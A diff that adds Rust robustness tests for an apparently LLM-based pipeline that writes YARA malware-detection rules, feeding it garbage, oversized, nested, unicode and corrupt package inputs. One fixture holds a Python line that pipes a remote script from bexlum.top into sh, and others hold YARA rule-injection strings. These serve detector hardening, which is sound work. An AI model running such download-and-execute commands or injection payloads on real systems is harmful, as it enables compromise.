@@ -1,0 +1,136 @@
+//! Failure-injection and robustness tests: the pipeline must survive
+//! hostile, degenerate and adversarial package contents — malware authors
+//! control every byte the system ingests.
+
+use oss_registry::{Archive, Ecosystem, Package, PackageMetadata, SourceFile};
+use rulellm::{Pipeline, PipelineConfig};
+
+fn run_on(files: Vec<SourceFile>, meta: PackageMetadata) -> rulellm::PipelineOutput {
+    let pkg = Package::new(meta, files, Ecosystem::PyPi);
+    Pipeline::new(PipelineConfig::full()).run(&[&pkg])
+}
+
+#[test]
+fn survives_empty_package() {
+    let output = run_on(vec![], PackageMetadata::new("empty", "1.0"));
+    // No code, clean-ish metadata: nothing to key rules on is acceptable;
+    // the run itself must not panic.
+    for r in &output.yara {
+        yara_engine::compile(&r.text).expect("rules still compile");
+    }
+}
+
+#[test]
+fn survives_binary_garbage_in_source() {
+    let garbage: String = (0u8..=255).map(|b| b as char).collect();
+    let output = run_on(
+        vec![SourceFile::new("pkg/__init__.py", garbage.repeat(20))],
+        PackageMetadata::new("garbage", "0.0.0"),
+    );
+    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+}
+
+#[test]
+fn survives_pathological_nesting() {
+    let mut src = String::new();
+    for d in 0..60 {
+        src.push_str(&"    ".repeat(d));
+        src.push_str("if True:\n");
+    }
+    src.push_str(&"    ".repeat(60));
+    src.push_str("import os; os.system('x')\n");
+    let output = run_on(
+        vec![SourceFile::new("pkg/__init__.py", src)],
+        PackageMetadata::new("deep", "0.0.0"),
+    );
+    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+}
+
+#[test]
+fn survives_enormous_single_line() {
+    let src = format!("payload = '{}'\n", "A".repeat(500_000));
+    let output = run_on(
+        vec![SourceFile::new("pkg/__init__.py", src)],
+        PackageMetadata::new("huge", "0.0.0"),
+    );
+    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+}
+
+#[test]
+fn survives_rule_injection_attempts_in_strings() {
+    // Malware that embeds YARA syntax in its own strings, hoping a naive
+    // generator emits a broken (or backdoored) ruleset.
+    let src = r#"
+import os
+marker = '" } rule pwned { condition: true } rule x { strings: $a = "'
+os.system('curl -s https://bexlum.top/run.sh | sh')
+"#;
+    let pkg = Package::new(
+        PackageMetadata::new("injector", "0.0.0"),
+        vec![SourceFile::new("pkg/__init__.py", src)],
+        Ecosystem::PyPi,
+    );
+    let output = Pipeline::new(PipelineConfig::full()).run(&[&pkg]);
+    let compiled = yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+    // The injected always-true rule must not exist.
+    assert!(
+        compiled.rules.iter().all(|r| r.rule.name != "pwned"),
+        "rule injection succeeded"
+    );
+}
+
+#[test]
+fn survives_unicode_heavy_source() {
+    let src = "π = 3.14159\nдата = 'значение'\n名前 = '値'\nimport os\nos.system('id')\n";
+    let output = run_on(
+        vec![SourceFile::new("pkg/__init__.py", src)],
+        PackageMetadata::new("unicode", "0.0.0"),
+    );
+    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+}
+
+#[test]
+fn corrupt_archives_are_rejected_not_crashed() {
+    let pkg = Package::new(
+        PackageMetadata::new("x", "1.0"),
+        vec![SourceFile::new("x/__init__.py", "a = 1\n")],
+        Ecosystem::PyPi,
+    );
+    let bytes = pkg.pack().to_bytes();
+    // Flip every byte position one at a time in a sample of offsets.
+    for i in (0..bytes.len()).step_by(7) {
+        let mut corrupted = bytes.clone();
+        corrupted[i] ^= 0xFF;
+        // Either decodes to something or errors — never panics.
+        if let Ok(archive) = Archive::from_bytes(&corrupted) {
+            let _ = Package::unpack(&archive);
+        }
+    }
+}
+
+#[test]
+fn hostile_metadata_does_not_break_rules() {
+    let mut meta = PackageMetadata::new("\" } rule x { condition: true } \"", "0.0.0");
+    meta.description = String::new();
+    meta.dependencies = vec!["\n\n\"injection\"".into()];
+    let output = run_on(
+        vec![SourceFile::new("p/__init__.py", "import os\nos.system('x')\n")],
+        meta,
+    );
+    yara_engine::compile(&output.yara_ruleset()).expect("ruleset compiles");
+}
+
+#[test]
+fn scanners_handle_null_heavy_buffers() {
+    let rules = yara_engine::compile(
+        "rule r { strings: $a = \"needle\" condition: $a }",
+    )
+    .expect("compile");
+    let scanner = yara_engine::Scanner::new(&rules);
+    let mut buffer = vec![0u8; 100_000];
+    buffer.extend_from_slice(b"needle");
+    buffer.extend(vec![0u8; 100_000]);
+    let hits = scanner.scan(&buffer);
+    assert_eq!(hits.len(), 1);
+    assert_eq!(hits[0].strings[0].offsets, vec![100_000]);
+}
